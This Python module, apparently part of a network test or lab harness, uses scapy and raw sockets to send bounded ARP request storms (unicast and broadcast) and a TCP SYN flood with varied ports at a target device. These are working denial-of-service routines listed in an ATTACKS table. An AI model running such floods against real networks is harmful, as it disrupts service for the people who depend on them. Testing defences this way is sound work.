"""Attacks by mere number, bounded in count and in time."""

import socket
import time
from typing import Iterator

from scapy.layers.inet import IP, TCP
from scapy.layers.l2 import ARP, Ether

from parties import ETH_P_ALL, Parties

BROADCAST = "ff:ff:ff:ff:ff:ff"
STORM_FRAMES = 12_000
STORM_S = 3.0
FLOOD_FRAMES = 60_000
FLOOD_S = 6.0


def paced(parties: Parties, frames: Iterator[bytes], count: int, duration_s: float) -> int:
    """Sends `count` frames evenly over the time, or as many as fit into it."""
    begin = time.monotonic()
    sent = 0
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ALL)) as wire:
        wire.bind((parties.interface, 0))
        while sent < count:
            elapsed = time.monotonic() - begin
            if elapsed > duration_s:
                break
            due = int(count * elapsed / duration_s) + 1
            while sent < min(due, count):
                wire.send(next(frames))
                sent += 1
            time.sleep(0.001)
    return sent


def storm(parties: Parties) -> int:
    """Address questions to one device alone, which policy permits, far beyond what it can bear."""
    question = ARP(op="who-has", hwsrc=parties.attacker.mac, psrc=parties.attacker.ip)
    question.pdst = parties.target.ip
    frame = bytes(Ether(src=parties.attacker.mac, dst=parties.target.mac) / question)
    return paced(parties, iter(lambda: frame, None), STORM_FRAMES, STORM_S)


def broadcast_storm(parties: Parties) -> int:
    """Address questions to everybody."""
    question = ARP(op="who-has", hwsrc=parties.attacker.mac, psrc=parties.attacker.ip)
    question.pdst = parties.target.ip
    frame = bytes(Ether(src=parties.attacker.mac, dst=BROADCAST) / question)
    return paced(parties, iter(lambda: frame, None), STORM_FRAMES // 4, STORM_S)


def new_flows(parties: Parties) -> int:
    """Connections that are opened and never completed, each from another port to another port."""
    return paced(parties, openings(parties), FLOOD_FRAMES, FLOOD_S)


def openings(parties: Parties) -> Iterator[bytes]:
    frame = Ether(src=parties.attacker.mac, dst=parties.target.mac)
    frame /= IP(src=parties.attacker.ip, dst=parties.target.ip)
    template = bytearray(bytes(frame / TCP(sport=0, dport=0, flags="S", seq=1)))
    number = 0
    while True:
        # The ports stand where the TCP header begins; its checksum is of no interest to a flood.
        template[34:36] = (20_000 + number % 40_000).to_bytes(2, "big")
        template[36:38] = (1 + number // 40_000 + number % 7).to_bytes(2, "big")
        number += 1
        yield bytes(template)


ATTACKS = {
    "storm": storm,
    "broadcast-storm": broadcast_storm,
    "new-flow-flood": new_flows,
}
